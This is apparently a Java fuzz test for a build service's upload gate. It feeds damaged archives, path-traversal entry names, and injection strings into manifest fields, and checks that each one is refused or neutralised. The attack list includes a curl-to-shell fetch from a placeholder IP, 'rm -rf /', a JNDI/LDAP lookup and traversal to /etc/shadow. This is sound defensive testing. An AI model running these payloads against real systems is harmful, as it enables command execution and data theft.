package dev.slipway.source;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import dev.slipway.engine.SourceArchives;
import dev.slipway.json.Json;
import dev.slipway.release.BuildPlan;
import dev.slipway.release.BuildPlanner;
import dev.slipway.release.GoModule;
import dev.slipway.release.ManifestReader;
import dev.slipway.release.Problem;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.IntRange;

/**
 * Hostile uploads, generated (issue 7's input drill at the gate every upload passes): archives cut,
 * flipped and stuffed with traversal, links, deep nesting, non-UTF-8 names and bombs; manifests
 * with an attack in every string field, huge and deeply nested. Whatever comes, the check gives a
 * result (never an exception out of the handler), a refusal names what is wrong in one printable
 * line, and what is accepted carries nothing into a build command that could act as a flag or break
 * a line.
 */
class HostileInputFuzzTest {
  static final LocalDate TODAY = LocalDate.of(2026, 11, 27);
  static final String RELEASE = "hello-go-000000000000";

  static final String FULL_MANIFEST =
      """
      {
        "service": "hello-go",
        "main": "cmd/server/",
        "targets": ["linux/arm64", "linux/amd64"],
        "tags": ["netgo"],
        "xflags": {"main.commit": "abc123"},
        "image": {"platforms": ["linux/arm64"], "base": "scratch", "port": 9090, "user": "app", "uid": 10001},
        "health": {"liveness": "/live", "readiness": "/ready", "gracePeriodSeconds": 45},
        "scan": {"block": ["CRITICAL"], "approve": ["MEDIUM"],
                 "allow": [{"id": "GO-2024-2687", "expires": "2027-01-31", "reason": "not reachable"}]},
        "deploy": {"cluster": "prod", "service": "hello-go", "container": "app", "bakeSeconds": 60}
      }
      """;

  /** Strings aimed at shells, flags, paths, terminals, parsers and the ledger. */
  static final List<String> ATTACKS =
      List.of(
          "$(touch /tmp/pwned)",
          "`id`",
          "; rm -rf / #",
          "a && curl http://203.0.113.9/x | sh",
          "-o /etc/passwd",
          "--help",
          "-ldflags=-H windowsgui",
          "../../../../etc/shadow",
          "/etc/passwd",
          "..",
          "a\nb",
          "a\r\nX-Injected: 1",
          "\u0000",
          "\u001b[2J\u001b[31mred",
          "'\"\\",
          "%s%s%s%n",
          "${jndi:ldap://203.0.113.9/a}",
          "\u202eevil\u202c",
          "\ud83d\ude00",
          "x".repeat(70_000),
          "",
          " ",
          "main.version=evil");

  // ---------------------------------------------------------------- archives

  static byte[] zip(Map<String, byte[]> files) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      for (var e : files.entrySet()) {
        ZipEntry entry = new ZipEntry(e.getKey());
        entry.setTime(1_764_547_200_000L); // fixed, so the same damage hits the same field
        zip.putNextEntry(entry);
        zip.write(e.getValue());
        zip.closeEntry();
      }
    }
    return out.toByteArray();
  }

  static Map<String, byte[]> goodFiles() {
    Map<String, byte[]> files = new LinkedHashMap<>();
    ArchiveTreeTest.goodTree("")
        .forEach((k, v) -> files.put(k, v.getBytes(StandardCharsets.UTF_8)));
    return files;
  }

  /** The upload check's reader and planner, for both formats it reads (tar.gz too). */
  static SourceArchives.Checked check(byte[] archive, String key) {
    return SourceCheck.checkArchive(
        new ByteArrayInputStream(archive),
        dev.slipway.source.ArchiveTree.formatOf(key).orElseThrow(),
        RELEASE,
        TODAY);
  }

  /** A refusal is one printable line that says something; an acceptance has a configuration. */
  static void assertWellFormed(SourceArchives.Checked checked) {
    assertThat(checked).isNotNull();
    if (checked.invalidReason() == null) {
      assertThat(checked.config()).isNotNull();
      return;
    }
    assertThat(checked.invalidReason()).isNotBlank().hasSizeLessThan(20_000);
    assertThat(checked.invalidReason().chars()).noneMatch(c -> c < 0x20 || c == 0x7f);
  }

  @Provide
  Arbitrary<String> hostileNames() {
    return Arbitraries.oneOf(
        Arbitraries.of(
            "../escape.go",
            "a/../../escape.go",
            "/abs/main.go",
            "C:\\windows\\x.go",
            "a\\..\\..\\x.go",
            "./././main.go",
            "a//b.go",
            "nul\u0000.go",
            "line\nbreak.go",
            "\u202egnp.go",
            "a/".repeat(40) + "deep.go",
            "x".repeat(5000) + ".go",
            "slipway.json/",
            "go.mod/../slipway.json"),
        Arbitraries.strings().ofMinLength(1).ofMaxLength(300));
  }

  @Property(tries = 400)
  void anEntryWithAHostileName_isRefusedOrKeptInside(@ForAll("hostileNames") String name)
      throws IOException {
    Map<String, byte[]> files = goodFiles();
    files.put(name, "package main\n".getBytes(StandardCharsets.UTF_8));
    SourceArchives.Checked checked = check(zip(files), "sources/hello-go/a.zip");

    assertWellFormed(checked);
    if (name.contains("..") && name.replace('\\', '/').matches("(.*/)?\\.\\.(/.*)?")) {
      assertThat(checked.invalidReason()).as(name).isNotNull();
    }
  }

  @Provide
  Arbitrary<byte[]> goodArchives() {
    return Arbitraries.of("zip", "tar.gz")
        .map(
            format -> {
              try {
                if (format.equals("zip")) {
                  return zip(goodFiles());
                }
                return ArchiveTreeTest.tarGz(
                    tar -> {
                      for (var e : ArchiveTreeTest.goodTree("./").entrySet()) {
                        ArchiveTreeTest.file(tar, e.getKey(), e.getValue());
                      }
                    });
              } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
              }
            });
  }

  @Provide
  Arbitrary<List<int[]>> flips() {
    // (offset per mille, xor mask) pairs: where to damage the archive and how
    return Combinators.combine(
            Arbitraries.integers().between(0, 999), Arbitraries.integers().between(1, 255))
        .as((at, mask) -> new int[] {at, mask})
        .list()
        .ofMinSize(1)
        .ofMaxSize(8);
  }

  @Property(tries = 500)
  void aDamagedArchive_givesAResult_neverAnException(
      @ForAll("goodArchives") byte[] archive,
      @ForAll("flips") List<int[]> flips,
      @ForAll @IntRange(min = 0, max = 1000) int keepPerMille) {
    byte[] damaged = archive.clone();
    for (int[] flip : flips) {
      int at = (int) ((long) flip[0] * damaged.length / 1000);
      damaged[at] ^= (byte) flip[1];
    }
    byte[] cut = Arrays.copyOf(damaged, (int) ((long) damaged.length * keepPerMille / 1000));
    boolean zip = archive[0] == 'P';
    String key = zip ? "sources/hello-go/a.zip" : "sources/hello-go/a.tar.gz";

    assertWellFormed(check(cut, key));
  }

  @org.junit.jupiter.api.Test
  void aZipWithADamagedEntryHeader_isRefusedAsCorrupt_notAnExceptionOfTheLibrary()
      throws IOException {
    // Found by the property above: commons-compress's streaming reader threw
    // NullPointerException for this one (the reader now goes through the central directory).
    byte[] damaged = zip(goodFiles());
    damaged[291] ^= (byte) 87;
    byte[] cut = Arrays.copyOf(damaged, 596);

    assertThat(check(cut, "sources/hello-go/a.zip").invalidReason())
        .startsWith("archive is truncated or corrupt: ");
  }

  /** Deterministic, beside the random runs above: every byte of a zip and a tar.gz, inverted. */
  @org.junit.jupiter.api.Test
  void everySingleByteOfAnArchiveDamaged_givesAResult_neverAnException() throws IOException {
    Map<String, Integer> reasons = new java.util.TreeMap<>();
    for (byte[] archive : List.of(zip(goodFiles()), goodArchives().sample())) {
      boolean zip = archive[0] == 'P';
      for (int at = 0; at < archive.length; at++) {
        byte[] damaged = archive.clone();
        damaged[at] ^= (byte) 0xff;
        SourceArchives.Checked checked =
            check(damaged, zip ? "sources/hello-go/a.zip" : "sources/hello-go/a.tar.gz");
        assertWellFormed(checked);
        reasons.merge(
            String.valueOf(checked.invalidReason()).replaceAll(": .*", ""), 1, Integer::sum);
      }
    }
    // the library's unchecked exceptions were among them (they escaped before the fix)
    assertThat(reasons).containsKey("archive is truncated or corrupt");
  }

  @Property(tries = 30)
  void manySmallEntriesOrOneHugeOne_stopAtTheLimits(
      @ForAll @IntRange(min = 20_001, max = 25_000) int entries) throws IOException {
    Map<String, byte[]> files = goodFiles();
    for (int i = 0; i < entries; i++) {
      files.put("pad/" + i + ".go", new byte[0]);
    }
    SourceArchives.Checked checked = check(zip(files), "sources/hello-go/a.zip");

    assertWellFormed(checked);
    assertThat(checked.invalidReason()).isNotNull();
  }

  // ---------------------------------------------------------------- manifests

  /** Every string in the manifest (values and the free-form keys of xflags), as JSON paths. */
  static List<List<Object>> stringPaths(JsonNode node, List<Object> at, List<List<Object>> out) {
    if (node.isTextual()) {
      out.add(at);
    } else if (node.isArray()) {
      for (int i = 0; i < node.size(); i++) {
        List<Object> next = new ArrayList<>(at);
        next.add(i);
        stringPaths(node.get(i), next, out);
      }
    } else if (node.isObject()) {
      node.fieldNames()
          .forEachRemaining(
              name -> {
                List<Object> next = new ArrayList<>(at);
                next.add(name);
                stringPaths(node.get(name), next, out);
              });
    }
    return out;
  }

  static final JsonNode FULL = Json.parse(FULL_MANIFEST, "$");
  static final List<List<Object>> PATHS = stringPaths(FULL, List.of(), new ArrayList<>());

  /** The reader's name for a path: {@code scan.allow[0].reason}. */
  static String dotted(List<Object> path) {
    StringBuilder b = new StringBuilder();
    for (Object step : path) {
      if (step instanceof Integer i) {
        b.append('[').append(i).append(']');
      } else {
        b.append(b.length() == 0 ? "" : ".").append(step);
      }
    }
    return b.toString();
  }

  static String withValue(List<Object> path, String value) {
    JsonNode copy = FULL.deepCopy();
    JsonNode parent = copy;
    for (Object step : path.subList(0, path.size() - 1)) {
      parent = step instanceof Integer i ? parent.get(i) : parent.get((String) step);
    }
    Object last = path.get(path.size() - 1);
    if (last instanceof Integer i) {
      ((ArrayNode) parent).set(i, TextNode.valueOf(value));
    } else {
      ((ObjectNode) parent).put((String) last, value);
    }
    return copy.toString();
  }

  @Provide
  Arbitrary<String> attacks() {
    return Arbitraries.oneOf(
        Arbitraries.of(ATTACKS),
        Arbitraries.strings().ofMaxLength(200),
        Arbitraries.strings().withChars("-$`;|&<>()'\"\\\n\r\t\u0000 ./=").ofMaxLength(40));
  }

  @Property(tries = 1500)
  void anAttackInAnyStringField_isRefusedNamingTheField_orCannotReachACommand(
      @ForAll @IntRange(min = 0, max = 1000) int which, @ForAll("attacks") String attack) {
    List<Object> path = PATHS.get(which % PATHS.size());
    String text = withValue(path, attack);

    ManifestReader.Result result = ManifestReader.read(text);

    if (result instanceof ManifestReader.Result.Invalid invalid) {
      assertThat(invalid.problems()).isNotEmpty();
      for (Problem p : invalid.problems()) {
        assertThat(p.line().chars()).as(p.line()).noneMatch(c -> c < 0x20 || c == 0x7f);
      }
      if (text.length() <= ManifestReader.MAX_BYTES) {
        assertThat(invalid.problems().stream().map(Problem::path))
            .as("a problem names %s", dotted(path))
            .anyMatch(
                p ->
                    path.stream()
                        .filter(String.class::isInstance)
                        .allMatch(step -> p.contains((String) step)));
      }
      return;
    }
    var manifest = ((ManifestReader.Result.Valid) result).manifest();
    BuildPlan plan =
        BuildPlanner.plan(
            manifest,
            GoModule.parse("module example.com/hello-go\n\ngo 1.22\n").orElseThrow(),
            RELEASE,
            "/out",
            TODAY);
    for (BuildPlan.Target t : plan.targets()) {
      List<String> argv = t.build().argv();
      for (int i = 1; i < argv.size(); i++) {
        String arg = argv.get(i);
        assertThat(arg.chars()).as("%s in %s", arg, argv).noneMatch(c -> c < 0x20 || c == 0x7f);
        if (i == argv.size() - 1) {
          // the package to build: a path inside the module (the module root itself is "."),
          // never a flag
          assertThat(arg.equals(".") || arg.startsWith("./")).as(argv.toString()).isTrue();
          assertThat(arg).as(argv.toString()).doesNotContain("..");
        }
      }
      // The linker splits -ldflags on spaces (and honours quotes): what it reads must be -s, -w
      // and -X pairs only, with main.version set once, to the release id.
      String ldflags =
          argv.stream()
              .filter(a -> a.startsWith("-ldflags="))
              .findFirst()
              .orElseThrow()
              .substring("-ldflags=".length());
      assertThat(ldflags).doesNotContain("'", "\"");
      String[] tokens = ldflags.trim().split("\\s+");
      List<String> versions = new ArrayList<>();
      for (int i = 0; i < tokens.length; i++) {
        if (tokens[i].equals("-X")) {
          String assignment = tokens[++i];
          if (assignment.startsWith("main.version=")) {
            versions.add(assignment);
          }
        } else {
          assertThat(tokens[i]).as(ldflags).isIn("-s", "-w");
        }
      }
      assertThat(versions).as(ldflags).containsExactly("main.version=" + RELEASE);
    }
  }

  @Property(tries = 20)
  void aHugeOrDeeplyNestedManifest_isRefusedBeforeItIsRead(
      @ForAll @IntRange(min = 33, max = 5000) int depth) {
    String deep =
        "{\"service\": \"hello-go\", \"x\": " + "[".repeat(depth) + "]".repeat(depth) + "}";
    String huge =
        "{\"service\": \"hello-go\", \"pad\": \"" + "x".repeat(ManifestReader.MAX_BYTES) + "\"}";

    for (String text : List.of(deep, huge)) {
      ManifestReader.Result result = ManifestReader.read(text);
      assertThat(result).isInstanceOf(ManifestReader.Result.Invalid.class);
      assertThat(((ManifestReader.Result.Invalid) result).problems()).hasSize(1);
    }
  }
}
